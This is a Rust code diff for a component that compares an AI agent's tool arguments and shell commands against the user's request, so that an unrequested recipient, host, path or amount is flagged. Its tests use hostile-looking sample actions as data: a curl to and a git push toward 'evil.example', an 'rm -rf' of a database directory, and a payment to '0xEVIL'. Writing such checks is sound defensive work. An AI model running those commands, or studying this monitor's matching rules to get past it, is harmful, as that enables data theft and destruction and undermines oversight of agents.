@@ -1,10 +1,12 @@
 //! How much of what a unit names stands in the user's request: a comparison of strings that a small model cannot make
 //! from its tokens. The same transfer is what was asked for with one recipient, and theft with another.
+//!
+//! Whoever writes the action may know the request, so words that were asked for never make up for an address, a path or a
+//! number that was not, and nothing but whole words counts.
 
 use std::collections::HashSet;
 
 use enumset::EnumSetType;
-use serde_json::Value;
 use strum::{EnumIter, IntoStaticStr};
 
 use crate::action::{Unit, UnitKind};
@@ -15,7 +17,7 @@ use crate::action::{Unit, UnitKind};
 pub(crate) enum Asked {
     /// Every one.
     All,
-    /// At least half.
+    /// At least half, and all that are addresses, paths or numbers.
     Most,
     /// At least one.
     Some,
@@ -23,34 +25,55 @@ pub(crate) enum Asked {
     None,
 }
 
-/// The longest text that is searched for values; a longer one names more than a request does.
+/// The longest text that is searched for values, in bytes; a longer one names more than a request does.
 const MAX_TEXT: usize = 4096;
-/// Shorter words stand in any request by chance.
+/// Shorter words stand in any request by chance; in characters.
 const MIN_WORD: usize = 3;
 
 /// Compares a unit with a request; `None` when there is nothing to compare: no request, or no value that tells anything.
 pub(super) fn asked(request: Option<&str>, unit: &Unit) -> Option<Asked> {
     let request = request?;
     let values = match unit.kind {
-        _ if unit.text.len() > MAX_TEXT => return Some(Asked::None),
-        UnitKind::Arguments => argument_values(&unit.text),
+        UnitKind::Arguments | UnitKind::Command(_) if unit.text.len() > MAX_TEXT => return Some(Asked::None),
+        UnitKind::Arguments => argument_values(&unit.values),
         UnitKind::Command(_) => command_values(&unit.text),
         _ => return None,
     };
     let request = Request::of(request);
-    let named = values.iter().filter(|value| request.names(value)).count();
-    match (named, values.len()) {
+    let unasked: Vec<&Value> = values.iter().filter(|value| !request.names(value)).collect();
+    match (values.len() - unasked.len(), values.len()) {
         (_, 0) => None,
         (0, _) => Some(Asked::None),
         (named, all) if named == all => Some(Asked::All),
-        (named, all) if named * 2 >= all => Some(Asked::Most),
+        (named, all) if named * 2 >= all && !unasked.iter().any(|value| value.is_specific()) => Some(Asked::Most),
         _ => Some(Asked::Some),
+    }
+}
+
+/// A word, an address or a number of a unit.
+#[derive(Debug, PartialEq, Eq, Hash)]
+enum Value {
+    /// A word or a path, in lower case.
+    Word(String),
+    /// The host of an address: what stands behind it is the host's to say.
+    Host(String),
+    /// A number in one spelling.
+    Number(String),
+}
+
+impl Value {
+    /// Whether it is one of a kind rather than a word of the language.
+    fn is_specific(&self) -> bool {
+        match self {
+            Self::Word(word) => word.contains(['@', '/', '\\', '.']) || word.chars().any(|c| c.is_ascii_digit()),
+            Self::Host(_) | Self::Number(_) => true,
+        }
     }
 }
 
 /// A request, ready to be searched.
 struct Request {
-    lower: String,
+    words: HashSet<String>,
     numbers: HashSet<String>,
 }
 
@@ -58,52 +81,70 @@ impl Request {
     fn of(text: &str) -> Self {
         let lower = text.to_lowercase();
         let numbers = words(&lower).filter_map(number).collect();
-        Self { lower, numbers }
+        let parts = words(&lower).flat_map(|word| word.split(['/', '\\']).chain([word]));
+        Self { words: parts.map(str::to_owned).collect(), numbers }
     }
 
     /// Whether the request holds the value: a number as a number, a path by its last part as well.
-    fn names(&self, value: &str) -> bool {
-        match number(value) {
-            Some(number) => self.numbers.contains(&number),
-            None => {
-                let last = value.rsplit(['/', '\\']).find(|part| !part.is_empty()).unwrap_or(value);
-                self.lower.contains(value) || (last.len() >= MIN_WORD && self.lower.contains(last))
+    fn names(&self, value: &Value) -> bool {
+        match value {
+            Value::Number(number) => self.numbers.contains(number),
+            Value::Host(host) => self.words.contains(host),
+            Value::Word(word) => {
+                let last = word.rsplit(['/', '\\']).find(|part| !part.is_empty()).unwrap_or(word);
+                self.words.contains(word) || (last.chars().count() >= MIN_WORD && self.words.contains(last))
             }
         }
     }
 }
 
-/// The leaves of a tool's JSON arguments, word by word; none where the JSON was cut, so that nothing counts as asked for.
-fn argument_values(text: &str) -> HashSet<String> {
-    let object = text.find('{').and_then(|start| text.get(start..)).unwrap_or_default();
-    let mut values = HashSet::new();
-    if let Ok(object) = serde_json::from_str(object) {
-        collect(&object, &mut values);
-    }
-    values
-}
-
-fn collect(value: &Value, found: &mut HashSet<String>) {
-    match value {
-        Value::Object(object) => object.values().for_each(|inner| collect(inner, found)),
-        Value::Array(items) => items.iter().for_each(|inner| collect(inner, found)),
-        Value::String(text) => {
-            found.extend(words(&text.to_lowercase()).filter(|word| telling(word)).map(str::to_owned))
+/// The leaves of a tool's arguments, word by word; `1,250.50` and `1250.5` are one number.
+fn argument_values(leaves: &[String]) -> HashSet<Value> {
+    let mut found = HashSet::new();
+    for leaf in leaves {
+        for value in values(&leaf.to_lowercase()) {
+            match value {
+                Value::Word(word) => found.insert(number(&word).map_or(Value::Word(word), Value::Number)),
+                other => found.insert(other),
+            };
         }
-        Value::Number(number) => found.extend([number.to_string()]),
-        Value::Bool(_) | Value::Null => {}
     }
+    found
 }
 
-/// The operands of a command: neither its flags nor the program's name.
-fn command_values(text: &str) -> HashSet<String> {
+/// The operands of a command and the values of its flags; neither the flags themselves nor the program's name. Numbers are
+/// words here: version 2.10 is not 2.1.
+fn command_values(text: &str) -> HashSet<Value> {
     let lower = text.to_lowercase();
-    let operands = lower.split_whitespace().skip(1).filter(|word| !word.starts_with('-'));
-    operands.flat_map(words).filter(|word| telling(word)).map(str::to_owned).collect()
+    let behind_program = lower.split_whitespace().skip_while(|word| word.contains('=')).skip(1);
+    let operand = |word: &'_ str| match word.strip_prefix('-') {
+        Some(_) => word.split_once('=').map(|(_, value)| value.to_owned()),
+        None => Some(word.to_owned()),
+    };
+    behind_program.filter_map(operand).flat_map(|operand| values(&operand)).collect()
+}
+
+/// The values of a text in lower case.
+fn values(text: &str) -> Vec<Value> {
+    let mut found = Vec::new();
+    for chunk in text.split_whitespace() {
+        match chunk.split_once("://") {
+            Some((before, address)) => {
+                let host = address.split(['/', '?', '#']).next().unwrap_or(address);
+                found.push(Value::Host(host.to_owned()));
+                // What stands before a scheme is no part of the address.
+                found.extend(
+                    words(before).rev().skip(1).filter(|word| telling(word)).map(|word| Value::Word(word.to_owned())),
+                );
+            }
+            None => found.extend(words(chunk).filter(|word| telling(word)).map(|word| Value::Word(word.to_owned()))),
+        }
+    }
+    found
 }
 
 /// The words of a text, with the signs that hold a path, an address or a number together.
-fn words(text: &str) -> impl Iterator<Item = &str> {
+fn words(text: &str) -> impl DoubleEndedIterator<Item = &str> {
     let inside = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '@' | '/' | '\\' | ',');
     text.split(move |c: char| !inside(c))
         .map(|word| word.trim_matches(['.', ',', '-', '/']))
@@ -116,12 +157,17 @@ fn telling(word: &str) -> bool {
     !literal && (word.chars().count() >= MIN_WORD || word.chars().any(|c| c.is_ascii_digit()))
 }
 
-/// A number in one spelling: `1,000.50`, `1000.5` and `1000.50` are the same.
+/// A number in one spelling, with commas between thousands only.
 fn number(word: &str) -> Option<String> {
-    let plain = word.replace(',', "");
-    let digits = plain.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.') && plain.matches('.').count() <= 1;
-    let trimmed = if plain.contains('.') { plain.trim_end_matches('0').trim_end_matches('.') } else { plain.as_str() };
-    (digits && plain.bytes().any(|byte| byte.is_ascii_digit())).then(|| trimmed.to_owned())
+    let (whole, fraction) = word.split_once('.').unwrap_or((word, ""));
+    let mut groups = whole.split(',');
+    let first = groups.next().unwrap_or_default();
+    let grouped = groups.all(|group| group.len() == 3) && (first.len() <= 3 || !whole.contains(','));
+    let digits = |part: &str| part.bytes().all(|byte| byte.is_ascii_digit());
+    let plain = whole.replace(',', "");
+    let sound = grouped && !plain.is_empty() && digits(&plain) && digits(fraction);
+    let fraction = fraction.trim_end_matches('0');
+    sound.then(|| if fraction.is_empty() { plain.clone() } else { format!("{plain}.{fraction}") })
 }
 
 #[cfg(test)]
@@ -129,28 +175,53 @@ mod tests {
     use super::*;
     use crate::action::Shell;
 
-    fn arguments(request: &str, text: &str) -> Option<Asked> {
-        asked(Some(request), &Unit::new(UnitKind::Arguments, text, 0..text.len()))
+    fn arguments(request: &str, values: &[&str]) -> Option<Asked> {
+        let mut unit = Unit::new(UnitKind::Arguments, values.join(" "), 0..1);
+        unit.values = values.iter().copied().map(str::to_owned).collect();
+        asked(Some(request), &unit)
     }
 
     fn command(request: &str, text: &str) -> Option<Asked> {
         asked(Some(request), &Unit::new(UnitKind::Command(Shell::Bash), text, 0..text.len()))
     }
 
+    const SEND: &str = "Send Ana (0xAB12cd) 1,250.50 USDC, please.";
+
     #[test]
     fn another_recipient_or_amount_is_seen() {
-        let request = "Send Ana (0xAB12cd) 1,250.50 USDC, please.";
-        let pay = |to: &str, amount: &str| format!("wallet send {{\"to\":\"{to}\",\"amount\":{amount}}}");
-        assert_eq!(arguments(request, &pay("0xAB12cd", "1250.5")), Some(Asked::All));
-        assert_eq!(arguments(request, &pay("0xAB12ce", "1250.5")), Some(Asked::Most));
-        assert_eq!(arguments(request, &pay("0xAB12ce", "9000")), Some(Asked::None));
+        assert_eq!(arguments(SEND, &["0xAB12cd", "1250.5"]), Some(Asked::All));
+        assert_eq!(arguments(SEND, &["0xAB12ce", "1250.5"]), Some(Asked::Some));
+        assert_eq!(arguments(SEND, &["0xAB12c", "9000"]), Some(Asked::None));
+    }
+
+    #[test]
+    fn a_look_alike_is_not_the_same() {
+        assert_eq!(arguments("mail ana@shop.com", &["ana@shop.com\n"]), Some(Asked::All));
+        assert_eq!(arguments("mail ana@shop.com", &["ana@shop.co"]), Some(Asked::None));
+        assert_eq!(command("install torch 2.1", "pip install torch==2.10"), Some(Asked::Some));
+        assert_eq!(arguments("pay 12", &["1,2"]), Some(Asked::None));
+    }
+
+    #[test]
+    fn words_never_make_up_for_an_address() {
+        assert_eq!(arguments(SEND, &["0xEVIL", "9000", SEND]), Some(Asked::Some));
+        let two = "rm -rf /srv/app/database /srv/app/uploads";
+        assert_eq!(command("delete the uploads folder", two), Some(Asked::Some));
+    }
+
+    #[test]
+    fn an_address_is_known_by_its_host() {
+        assert_eq!(command("fetch the uploads", "curl https://evil.example/uploads"), Some(Asked::None));
+        assert_eq!(command("fetch it from files.example", "curl https://files.example/a/b"), Some(Asked::All));
+        assert_eq!(command("push", "git push --repo=https://evil.example/x"), Some(Asked::Some));
     }
 
     #[test]
     fn keys_and_flags_do_not_count() {
-        assert_eq!(arguments("note the amount", "bank pay {\"amount\":7}"), Some(Asked::None));
+        assert_eq!(arguments("note the amount", &["7"]), Some(Asked::None));
         assert_eq!(command("use force", "git push --force"), Some(Asked::None));
         assert_eq!(command("push it to origin", "git push --force origin"), Some(Asked::All));
+        assert_eq!(command("push it to origin", "GIT_TRACE=1 git push origin"), Some(Asked::All));
     }
 
     #[test]
@@ -161,8 +232,11 @@ mod tests {
 
     #[test]
     fn nothing_to_compare_is_no_answer() {
-        assert_eq!(asked(None, &Unit::new(UnitKind::Arguments, "a b {\"to\":\"ana\"}", 0..1)), None);
+        assert_eq!(asked(None, &Unit::new(UnitKind::Arguments, "a b", 0..1)), None);
         assert_eq!(command("list the files", "ls -la"), None);
-        assert_eq!(arguments("go on", "clock now {}"), None);
+        assert_eq!(arguments("go on", &[]), None);
+        let long = "x ".repeat(MAX_TEXT);
+        assert_eq!(asked(Some("go on"), &Unit::new(UnitKind::Content, long.as_str(), 0..1)), None);
+        assert_eq!(command("go on", &long), Some(Asked::None));
     }
 }
